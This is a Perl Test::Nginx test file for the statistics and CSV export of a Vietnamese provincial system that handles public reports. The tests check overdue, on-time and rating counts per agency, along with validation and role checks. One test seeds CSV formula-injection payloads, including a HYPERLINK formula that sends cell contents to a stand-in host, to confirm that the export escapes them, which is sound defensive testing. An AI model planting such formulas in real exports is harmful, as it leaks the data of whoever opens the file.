# GET /api/v1/stats: per-agency figures after a known sequence of actions
# (on time, late, late after an extension, ratings, work in progress),
# the flags, the range of days, validation and roles.  Reports count per
# owner (an agency, or the IOC), once: overdue from the sweep that sees the
# first of its deadlines pass, never undone; on time when its part ends
# (handled, published) with no deadline missed; a return neither way.
# Then the periodic reports (month, quarter, year) and CSV.
use Test::Nginx::Socket 'no_plan';
use lib '.';
use t::PaTest;

# submitted, verified, received and dispatched to $agencies on $day
sub dispatched {
    my ($id, $agencies, $day) = @_;
    my $j = "Content-Type: application/json\nX-PA-Now: ${day}T";
    my @h = ("${j}08:00:00+07:00\nX-PA-Test-Id: $id\nX-PA-Test-Token: token-of-the-reporter-$id",
             "Authorization: Bearer $T{ioc}\n${j}08:10:00+07:00",
             "Authorization: Bearer $T{ioc}\n${j}08:20:00+07:00",
             "Authorization: Bearer $T{ioc}\n${j}08:30:00+07:00");
    my $a = "POST /api/v1/reports/$id/actions\n";
    my @r = ("POST /api/v1/reports\n{\"content\":\"$id\",\"lat\":22.39,\"lng\":103.45,\"reporter_name\":\"A\",\"reporter_phone\":\"0912345678\"}",
             $a . '{"action":"verify"}',
             $a . '{"action":"receive"}',
             $a . "{\"action\":\"dispatch\",\"agencies\":$agencies}");
    return (\@h, \@r);
}

# submitted only, at 08:00 of $day
sub submitted {
    my ($id, $day) = @_;
    my ($h, $r) = dispatched($id, '[]', $day);
    return ([$h->[0]], [$r->[0]]);
}

# one action: [token, time, id, body]
sub acts {
    my (@list) = @_;
    my (@h, @r);
    for my $x (@list) {
        my ($who, $at, $id, $body) = @$x;
        push @h, ($who =~ /^token-/ ? "X-Report-Token: $who" : "Authorization: Bearer $T{$who}")
                 . "\nContent-Type: application/json\nX-PA-Now: $at";
        push @r, "POST /api/v1/reports/$id/actions\n$body";
    }
    return (\@h, \@r);
}

tokens(yt => ['handler', 'so-yt'], gddt => ['handler', 'so-gddt']);

# the rows of a stats answer every block below repeats: the IOC, and an
# agency with only its counters given (flags, late: the overdue list)
sub row {
    my ($agency, $name, %n) = @_;
    my $flags = join ',', map { "\"$_\"" } @{ $n{flags} // [] };
    return "{\"agency\":\"$agency\",\"name\":\"$name\","
        . join(',', map { "\"$_\":" . ($n{$_} // 0) }
               qw(dispatched resolved on_time overdue extension_missed
                  in_progress))
        . ',"ratings":{"satisfied":0,"acceptable":0,"unsatisfied":0},'
        . "\"satisfaction_rate\":null,\"flags\":[$flags],"
        . '"overdue_reports":[' . join(',', map { "\"$_\"" } @{ $n{late} // [] })
        . ']}';
}

our %NAME = (
    ioc => 'Trung tâm Giám sát, điều hành thông minh tỉnh Lai Châu',
    'phuong-tan-phong' => 'UBND phường Tân Phong',
    'so-gddt' => 'Sở Giáo dục và Đào tạo tỉnh Lai Châu',
    'so-xd' => 'Sở Xây dựng tỉnh Lai Châu',
    'so-yt' => 'Sở Y tế tỉnh Lai Châu',
);

sub rows {
    my @r;
    while (my ($a, $n) = splice @_, 0, 2) {
        push @r, row($a, $NAME{$a}, %$n);
    }
    return join ',', @r;
}

setting(http_config => workflow_http('t_stats', 'test-stats',
                                     'pa_stats_min_ratings 2;'));

run_tests();

__DATA__

=== TEST 1: S-1 to so-xd: handled on time, published, rated satisfied
--- more_headers eval
[@{(main::dispatched('S-1', '["so-xd"]', '2026-02-02'))[0]},
 @{(main::acts(['xd', '2026-02-02T09:00:00+07:00', 'S-1', '{"action":"accept"}'],
               ['xd', '2026-02-03T10:00:00+07:00', 'S-1', '{"action":"resolve","summary":"Xong."}'],
               ['ioc', '2026-02-03T11:00:00+07:00', 'S-1', '{"action":"publish"}'],
               ['token-of-the-reporter-S-1', '2026-02-03T12:00:00+07:00', 'S-1', '{"action":"rate","rating":"satisfied"}']))[0]}]
--- pipelined_requests eval
[@{(main::dispatched('S-1', '["so-xd"]', '2026-02-02'))[1]},
 @{(main::acts(['xd', '2026-02-02T09:00:00+07:00', 'S-1', '{"action":"accept"}'],
               ['xd', '2026-02-03T10:00:00+07:00', 'S-1', '{"action":"resolve","summary":"Xong."}'],
               ['ioc', '2026-02-03T11:00:00+07:00', 'S-1', '{"action":"publish"}'],
               ['token-of-the-reporter-S-1', '2026-02-03T12:00:00+07:00', 'S-1', '{"action":"rate","rating":"satisfied"}']))[1]}]
--- error_code eval
[201, 200, 200, 200, 200, 200, 200, 200]



=== TEST 2: S-2 to so-xd: handled late, rated unsatisfied
--- more_headers eval
[@{(main::dispatched('S-2', '["so-xd"]', '2026-02-02'))[0]},
 @{(main::acts(['xd', '2026-02-02T09:00:00+07:00', 'S-2', '{"action":"accept"}'],
               ['xd', '2026-02-12T10:00:00+07:00', 'S-2', '{"action":"resolve","summary":"Xong."}'],
               ['ioc', '2026-02-12T11:00:00+07:00', 'S-2', '{"action":"publish"}'],
               ['token-of-the-reporter-S-2', '2026-02-12T12:00:00+07:00', 'S-2', '{"action":"rate","rating":"unsatisfied"}']))[0]}]
--- pipelined_requests eval
[@{(main::dispatched('S-2', '["so-xd"]', '2026-02-02'))[1]},
 @{(main::acts(['xd', '2026-02-02T09:00:00+07:00', 'S-2', '{"action":"accept"}'],
               ['xd', '2026-02-12T10:00:00+07:00', 'S-2', '{"action":"resolve","summary":"Xong."}'],
               ['ioc', '2026-02-12T11:00:00+07:00', 'S-2', '{"action":"publish"}'],
               ['token-of-the-reporter-S-2', '2026-02-12T12:00:00+07:00', 'S-2', '{"action":"rate","rating":"unsatisfied"}']))[1]}]
--- error_code eval
[201, 200, 200, 200, 200, 200, 200, 200]



=== TEST 3: S-3 to so-xd and a ward, being handled; S-4 to so-nnmt: extended, still late
--- more_headers eval
[@{(main::dispatched('S-3', '["so-xd","phuong-tan-phong"]', '2026-02-04'))[0]},
 @{(main::dispatched('S-4', '["so-nnmt"]', '2026-02-05'))[0]},
 @{(main::acts(['xd', '2026-02-04T09:00:00+07:00', 'S-3', '{"action":"accept"}'],
               ['nnmt', '2026-02-05T09:00:00+07:00', 'S-4', '{"action":"accept"}'],
               ['nnmt', '2026-02-06T09:00:00+07:00', 'S-4', '{"action":"extend","until":"2026-02-13T17:00:00+07:00","reason":"Chờ vật tư"}'],
               ['nnmt', '2026-02-16T09:00:00+07:00', 'S-4', '{"action":"resolve","summary":"Xong."}']))[0]}]
--- pipelined_requests eval
[@{(main::dispatched('S-3', '["so-xd","phuong-tan-phong"]', '2026-02-04'))[1]},
 @{(main::dispatched('S-4', '["so-nnmt"]', '2026-02-05'))[1]},
 @{(main::acts(['xd', '2026-02-04T09:00:00+07:00', 'S-3', '{"action":"accept"}'],
               ['nnmt', '2026-02-05T09:00:00+07:00', 'S-4', '{"action":"accept"}'],
               ['nnmt', '2026-02-06T09:00:00+07:00', 'S-4', '{"action":"extend","until":"2026-02-13T17:00:00+07:00","reason":"Chờ vật tư"}'],
               ['nnmt', '2026-02-16T09:00:00+07:00', 'S-4', '{"action":"resolve","summary":"Xong."}']))[1]}]
--- error_code eval
[201, 200, 200, 200, 201, 200, 200, 200, 200, 200, 200, 200]



=== TEST 4: February, per agency (sorted by id), with the flags
Counted by hand, reports per owner: the IOC published S-1 and S-2 in time
(its part ends there); so-xd handled S-1 in time, S-2 late; so-nnmt missed
its extended deadline for S-4 (an accept in time does not make the report
on time); the ward has S-3 in hand.
--- more_headers eval
"Authorization: Bearer $::T{ioc}"
--- request
GET /api/v1/stats?from=2026-02-01&to=2026-02-28
--- error_code: 200
--- response_body
{"from":"2026-02-01","to":"2026-02-28","min_ratings":2,"agencies":[{"agency":"ioc","name":"Trung tâm Giám sát, điều hành thông minh tỉnh Lai Châu","dispatched":0,"resolved":0,"on_time":2,"overdue":0,"extension_missed":0,"in_progress":1,"ratings":{"satisfied":0,"acceptable":0,"unsatisfied":0},"satisfaction_rate":null,"flags":[],"overdue_reports":[]},{"agency":"phuong-tan-phong","name":"UBND phường Tân Phong","dispatched":1,"resolved":0,"on_time":0,"overdue":0,"extension_missed":0,"in_progress":1,"ratings":{"satisfied":0,"acceptable":0,"unsatisfied":0},"satisfaction_rate":null,"flags":[],"overdue_reports":[]},{"agency":"so-nnmt","name":"Sở Nông nghiệp và Môi trường tỉnh Lai Châu","dispatched":1,"resolved":1,"on_time":0,"overdue":1,"extension_missed":1,"in_progress":0,"ratings":{"satisfied":0,"acceptable":0,"unsatisfied":0},"satisfaction_rate":null,"flags":["overdue","extension_missed"],"overdue_reports":["S-4"]},{"agency":"so-xd","name":"Sở Xây dựng tỉnh Lai Châu","dispatched":3,"resolved":2,"on_time":1,"overdue":1,"extension_missed":0,"in_progress":1,"ratings":{"satisfied":1,"acceptable":0,"unsatisfied":1},"satisfaction_rate":0.5,"flags":["overdue","low_satisfaction"],"overdue_reports":["S-2"]}]}



=== TEST 5: one day: only that day's counters, the gauge as it is now
--- more_headers eval
"Authorization: Bearer $::T{supervisor}"
--- request
GET /api/v1/stats?from=2026-02-03&to=2026-02-03
--- error_code: 200
--- response_body
{"from":"2026-02-03","to":"2026-02-03","min_ratings":2,"agencies":[{"agency":"ioc","name":"Trung tâm Giám sát, điều hành thông minh tỉnh Lai Châu","dispatched":0,"resolved":0,"on_time":1,"overdue":0,"extension_missed":0,"in_progress":1,"ratings":{"satisfied":0,"acceptable":0,"unsatisfied":0},"satisfaction_rate":null,"flags":[],"overdue_reports":[]},{"agency":"phuong-tan-phong","name":"UBND phường Tân Phong","dispatched":0,"resolved":0,"on_time":0,"overdue":0,"extension_missed":0,"in_progress":1,"ratings":{"satisfied":0,"acceptable":0,"unsatisfied":0},"satisfaction_rate":null,"flags":[],"overdue_reports":[]},{"agency":"so-xd","name":"Sở Xây dựng tỉnh Lai Châu","dispatched":0,"resolved":1,"on_time":1,"overdue":0,"extension_missed":0,"in_progress":1,"ratings":{"satisfied":1,"acceptable":0,"unsatisfied":0},"satisfaction_rate":1.0,"flags":[],"overdue_reports":[]}]}



=== TEST 6: without dates: the month of X-PA-Now up to that day
--- more_headers eval
"Authorization: Bearer $::T{admin}\nX-PA-Now: 2026-03-10T10:00:00+07:00"
--- request
GET /api/v1/stats
--- error_code: 200
--- response_body_like: ^\{"from":"2026-03-01","to":"2026-03-10","min_ratings":2,"agencies":\[\{"agency":"ioc",[^}]*"in_progress":1,.*\{"agency":"phuong-tan-phong",.*"dispatched":0,.*"in_progress":1,



=== TEST 7: dates are checked
--- more_headers eval
"Authorization: Bearer $::T{ioc}"
--- pipelined_requests eval
["GET /api/v1/stats?from=2026-02-30&to=2026-03-01", "GET /api/v1/stats?from=2026-02-01&to=2026-1-31",
 "GET /api/v1/stats?from=2026-03-01&to=2026-02-01", "GET /api/v1/stats?from=2026-01-01&to=2027-01-02",
 "GET /api/v1/stats?from=yesterday&to=2026-02-01", "GET /api/v1/stats?from=2024-02-29&to=2024-02-29"]
--- error_code eval
[400, 400, 400, 400, 400, 200]
--- response_body_like eval
['"code":"invalid_field".*"field":"from"', '"field":"to"', '"field":"to"',
 '"field":"to"', '"field":"from"', '"agencies":\[\{']



=== TEST 8: only ioc, supervisor, admin
--- more_headers eval
["Authorization: Bearer $::T{xd}", "Authorization: Bearer $::T{leader}",
 "Authorization: Bearer $::T{coord}", "X-Report-Token: token-of-the-reporter-S-1", ""]
--- pipelined_requests eval
["GET /api/v1/stats", "GET /api/v1/stats", "GET /api/v1/stats",
 "GET /api/v1/stats", "GET /api/v1/stats"]
--- error_code eval
[403, 403, 403, 403, 401]



=== TEST 9: March: S-5 to so-yt, which never answers; S-6 returned by so-gddt, sent on to so-xd; S-7 waits for the IOC
--- more_headers eval
[@{(main::dispatched('S-5', '["so-yt"]', '2026-03-02'))[0]},
 @{(main::dispatched('S-6', '["so-gddt"]', '2026-03-02'))[0]},
 @{(main::acts(['gddt', '2026-03-02T10:00:00+07:00', 'S-6', '{"action":"return","kind":"not_competent","message":"Thuộc Sở Xây dựng"}'],
               ['ioc', '2026-03-02T11:00:00+07:00', 'S-6', '{"action":"dispatch","agencies":["so-xd"]}']))[0]},
 @{(main::submitted('S-7', '2026-03-02'))[0]}]
--- pipelined_requests eval
[@{(main::dispatched('S-5', '["so-yt"]', '2026-03-02'))[1]},
 @{(main::dispatched('S-6', '["so-gddt"]', '2026-03-02'))[1]},
 @{(main::acts(['gddt', '2026-03-02T10:00:00+07:00', 'S-6', '{"action":"return","kind":"not_competent","message":"Thuộc Sở Xây dựng"}'],
               ['ioc', '2026-03-02T11:00:00+07:00', 'S-6', '{"action":"dispatch","agencies":["so-xd"]}']))[1]},
 @{(main::submitted('S-7', '2026-03-02'))[1]}]
--- error_code eval
[201, 200, 200, 200, 201, 200, 200, 200, 200, 200, 201]



=== TEST 10: before any deadline passed: so-yt has S-5 in progress and nothing overdue; the return counts neither way
Nothing ended yet, so nothing is on time; the IOC's steps were in time but
its part ends with publication.  The gauges: so-xd holds S-3 and S-6, the
ward S-3, the IOC S-4 (to publish) and S-7 (to verify).
--- more_headers eval
"Authorization: Bearer $::T{ioc}\nX-PA-Now: 2026-03-02T12:00:00+07:00"
--- request
GET /api/v1/stats?from=2026-03-01&to=2026-03-02
--- error_code: 200
--- response_body eval
'{"from":"2026-03-01","to":"2026-03-02","min_ratings":2,"agencies":['
. main::rows(ioc => {in_progress => 2},
             'phuong-tan-phong' => {in_progress => 1},
             'so-gddt' => {dispatched => 1},
             'so-xd' => {dispatched => 1, in_progress => 2},
             'so-yt' => {dispatched => 1, in_progress => 1})
. "]}\n"



=== TEST 11: Tuesday 09:00, the sweeper runs: six deadlines passed, each a miss now
S-5's accept (so-yt, due Tue 08:30), S-7's verify (the IOC, due Tue 08:00),
and from February S-3's accept and handling by the ward and so-xd's
handling of S-3 (due 11 Feb), S-4's publication (the IOC, due 17 Feb).
They count as reports: the ward's two misses of S-3 are one report.
--- more_headers
X-PA-Now: 2026-03-03T09:00:00+07:00
--- request
POST /api/v1/admin/sweep
--- error_code: 200
--- response_body
{"overdue":6,"rejected":0,"notices":0,"unlocked":0}



=== TEST 12: so-yt is flagged overdue before it ever answered, while S-5 is still in progress; the IOC too
--- more_headers eval
"Authorization: Bearer $::T{ioc}\nX-PA-Now: 2026-03-03T09:05:00+07:00"
--- request
GET /api/v1/stats?from=2026-03-01&to=2026-03-03
--- error_code: 200
--- response_body eval
'{"from":"2026-03-01","to":"2026-03-03","min_ratings":2,"agencies":['
. main::rows(ioc => {overdue => 2, in_progress => 2, flags => ['overdue'],
                     late => ['S-4', 'S-7']},
             'phuong-tan-phong' => {overdue => 1, in_progress => 1,
                                    flags => ['overdue'], late => ['S-3']},
             'so-gddt' => {dispatched => 1},
             'so-xd' => {dispatched => 1, overdue => 1, in_progress => 2,
                         flags => ['overdue'], late => ['S-3']},
             'so-yt' => {dispatched => 1, overdue => 1, in_progress => 1,
                         flags => ['overdue'], late => ['S-5']})
. "]}\n"



=== TEST 13: ... and its queue agrees: S-5 is overdue there
--- more_headers eval
"Authorization: Bearer $::T{yt}\nX-PA-Now: 2026-03-03T09:05:00+07:00"
--- request
GET /api/v1/queue?overdue=1
--- error_code: 200
--- response_body_like: "id":"S-5","status":"dispatched",.*"overdue":true
--- response_body_unlike: "id":"S-[1-46-9]"



=== TEST 14: late answers do not count the misses again; the IOC rejects S-7 after its late verification
S-7: verified late (already counted), then rejected.  The sweep of 10
March sees S-5's handling (due 9 March 08:30) and S-6's accept and
handling by so-xd (due 3 March 11:00, 9 March 11:00) passed: S-5 is
already overdue for so-yt, S-6 is one more report overdue for so-xd.
so-yt then accepts and resolves S-5: both late, nothing counts again.
--- more_headers eval
[@{(main::acts(['ioc', '2026-03-04T09:00:00+07:00', 'S-7', '{"action":"verify"}'],
               ['ioc', '2026-03-04T09:10:00+07:00', 'S-7', '{"action":"reject","reason":"duplicate","message":"Trùng phản ánh S-1"}']))[0]},
 "X-PA-Now: 2026-03-10T08:40:00+07:00",
 @{(main::acts(['yt', '2026-03-10T09:00:00+07:00', 'S-5', '{"action":"accept"}'],
               ['yt', '2026-03-10T10:00:00+07:00', 'S-5', '{"action":"resolve","summary":"Đã xử lý."}']))[0]}]
--- pipelined_requests eval
[@{(main::acts(['ioc', '2026-03-04T09:00:00+07:00', 'S-7', '{"action":"verify"}'],
               ['ioc', '2026-03-04T09:10:00+07:00', 'S-7', '{"action":"reject","reason":"duplicate","message":"Trùng phản ánh S-1"}']))[1]},
 "POST /api/v1/admin/sweep",
 @{(main::acts(['yt', '2026-03-10T09:00:00+07:00', 'S-5', '{"action":"accept"}'],
               ['yt', '2026-03-10T10:00:00+07:00', 'S-5', '{"action":"resolve","summary":"Đã xử lý."}']))[1]}]
--- error_code eval
[200, 200, 200, 200, 200]
--- response_body_like eval
['"status":"verified"', '"status":"rejected"',
 '^\{"overdue":3,"rejected":0,"notices":0,"unlocked":0\}$',
 '"status":"in_progress"', '"status":"under_review"']



=== TEST 15: the monthly report of March, counted by hand
The IOC holds S-4 and S-5 (resolved late, to publish) now.
--- more_headers eval
"Authorization: Bearer $::T{supervisor}\nX-PA-Now: 2026-03-10T11:00:00+07:00"
--- request
GET /api/v1/stats?period=month&year=2026&month=3
--- error_code: 200
--- response_body eval
'{"from":"2026-03-01","to":"2026-03-31","min_ratings":2,"agencies":['
. main::rows(ioc => {overdue => 2, in_progress => 2, flags => ['overdue'],
                     late => ['S-4', 'S-7']},
             'phuong-tan-phong' => {overdue => 1, in_progress => 1,
                                    flags => ['overdue'], late => ['S-3']},
             'so-gddt' => {dispatched => 1},
             'so-xd' => {dispatched => 1, overdue => 2, in_progress => 2,
                         flags => ['overdue'], late => ['S-3', 'S-6']},
             'so-yt' => {dispatched => 1, resolved => 1, overdue => 1,
                         flags => ['overdue'], late => ['S-5']})
. "],\"period\":\"2026-03\"}\n"



=== TEST 16: the same month as CSV, a download for a spreadsheet
--- more_headers eval
"Authorization: Bearer $::T{ioc}\nX-PA-Now: 2026-03-10T11:00:00+07:00"
--- request
GET /api/v1/stats?period=month&year=2026&month=3&format=csv
--- error_code: 200
--- response_headers
Content-Type: text/csv; charset=utf-8
Content-Disposition: attachment; filename="pa-stats-t_stats-2026-03-01-2026-03-31.csv"
--- response_body eval
"\xEF\xBB\xBF"
. "agency,name,dispatched,resolved,on_time,overdue,extension_missed,in_progress,satisfied,acceptable,unsatisfied,satisfaction_rate,flags,overdue_reports\r\n"
. "ioc,\"Trung tâm Giám sát, điều hành thông minh tỉnh Lai Châu\",0,0,0,2,0,2,0,0,0,,overdue,S-4;S-7\r\n"
. "phuong-tan-phong,UBND phường Tân Phong,0,0,0,1,0,1,0,0,0,,overdue,S-3\r\n"
. "so-gddt,Sở Giáo dục và Đào tạo tỉnh Lai Châu,1,0,0,0,0,0,0,0,0,,,\r\n"
. "so-xd,Sở Xây dựng tỉnh Lai Châu,1,0,0,2,0,2,0,0,0,,overdue,S-3;S-6\r\n"
. "so-yt,Sở Y tế tỉnh Lai Châu,1,1,0,1,0,0,0,0,0,,overdue,S-5\r\n"



=== TEST 17: CSV: February with its ratings and several flags in one cell
--- more_headers eval
"Authorization: Bearer $::T{ioc}"
--- request
GET /api/v1/stats?from=2026-02-01&to=2026-02-28&format=csv
--- error_code: 200
--- response_body_like eval
qr{\r\nso-nnmt,[^,]+,1,1,0,1,1,0,0,0,0,,overdue;extension_missed,S-4\r\nso-xd,[^,]+,3,2,1,1,0,\d+,1,0,1,0\.5000,overdue;low_satisfaction,S-2\r\n$}



=== TEST 18: CSV: a cell that begins with = + - @ is never a formula
A record whose agency reads as a formula (nothing in the directory, so no
name): each such cell is quoted and begins with an apostrophe.
--- init
for my $a ('=HYPERLINK("http://x.example/?"&A1)', '+1+2', '-3', '@SUM(A1)') {
    main::redis('HINCRBY', 'pa:{t_stats}:stats:20260331', "$a|dispatched", 1);
}
--- more_headers eval
"Authorization: Bearer $::T{ioc}"
--- request
GET /api/v1/stats?from=2026-03-31&to=2026-03-31&format=csv
--- error_code: 200
--- response_body_like eval
qr{\r\n"'\+1\+2",,1,0,0,0,0,0,0,0,0,,,\r\n"'-3",,1,.*\r\n"'=HYPERLINK\(""http://x\.example/\?""&A1\)",,1,.*\r\n"'\@SUM\(A1\)",,1,}s



=== TEST 19: quarterly and yearly reports: the calendar's quarters and years
--- more_headers eval
"Authorization: Bearer $::T{admin}"
--- pipelined_requests eval
["GET /api/v1/stats?period=quarter&year=2026&quarter=1",
 "GET /api/v1/stats?period=year&year=2024",
 "GET /api/v1/stats?period=quarter&year=2026&quarter=4"]
--- error_code eval
[200, 200, 200]
--- response_body_like eval
['^\{"from":"2026-01-01","to":"2026-03-31",.*"agency":"so-xd",[^}]*"dispatched":4,"resolved":2,"on_time":1,"overdue":3,.*"period":"2026-Q1"\}$',
 '^\{"from":"2024-01-01","to":"2024-12-31",.*"period":"2024"\}$',
 '^\{"from":"2026-10-01","to":"2026-12-31",']



=== TEST 20: a period is checked: clear errors for what is missing or wrong
--- more_headers eval
"Authorization: Bearer $::T{ioc}"
--- pipelined_requests eval
["GET /api/v1/stats?period=month&year=2026",
 "GET /api/v1/stats?period=month&year=2026&month=13",
 "GET /api/v1/stats?period=quarter&year=2026&quarter=5",
 "GET /api/v1/stats?period=quarter&year=2026",
 "GET /api/v1/stats?period=year",
 "GET /api/v1/stats?period=year&year=26",
 "GET /api/v1/stats?period=week&year=2026",
 "GET /api/v1/stats?period=year&year=2026&from=2026-01-01",
 "GET /api/v1/stats?format=xml"]
--- error_code eval
[400, 400, 400, 400, 400, 400, 400, 400, 400]
--- response_body_like eval
['"code":"missing_field".*"field":"month"', '"code":"invalid_field".*"field":"month"',
 '"code":"invalid_field".*"field":"quarter"', '"code":"missing_field".*"field":"quarter"',
 '"code":"missing_field".*"field":"year"', '"code":"invalid_field".*"field":"year"',
 '"code":"invalid_field".*"field":"period"', '"code":"invalid_field".*"field":"period"',
 '"code":"invalid_field".*"field":"format"']



=== TEST 21: a dispatch that names an agency twice is refused (it was stored, and the agency counted twice); the report waits, received, and a dispatch naming it once counts it once
--- more_headers eval
my ($h, $r) = main::dispatched('S-9', '["so-xd","so-xd"]', '2026-04-06');
[@$h, "Authorization: Bearer $::T{ioc}\nContent-Type: application/json\nX-PA-Now: 2026-04-06T08:40:00+07:00",
 "Authorization: Bearer $::T{ioc}\nX-PA-Now: 2026-04-06T09:00:00+07:00"]
--- pipelined_requests eval
my ($h, $r) = main::dispatched('S-9', '["so-xd","so-xd"]', '2026-04-06');
[@$r, "POST /api/v1/reports/S-9/actions\n{\"action\":\"dispatch\",\"agencies\":[\"so-xd\",\"so-nnmt\"]}",
 "GET /api/v1/stats?from=2026-04-06&to=2026-04-06"]
--- error_code eval
[201, 200, 200, 400, 200, 200]
--- response_body_like eval
['"id":"S-9"', '"status":"verified"', '"status":"received"',
 '^\{"error":\{"code":"invalid_field","message":"an agency is named twice","field":"agencies"\}\}$',
 '"status":"dispatched".*"agencies":\["so-xd","so-nnmt"\]',
 '"agency":"so-xd",[^}]*"dispatched":1,']
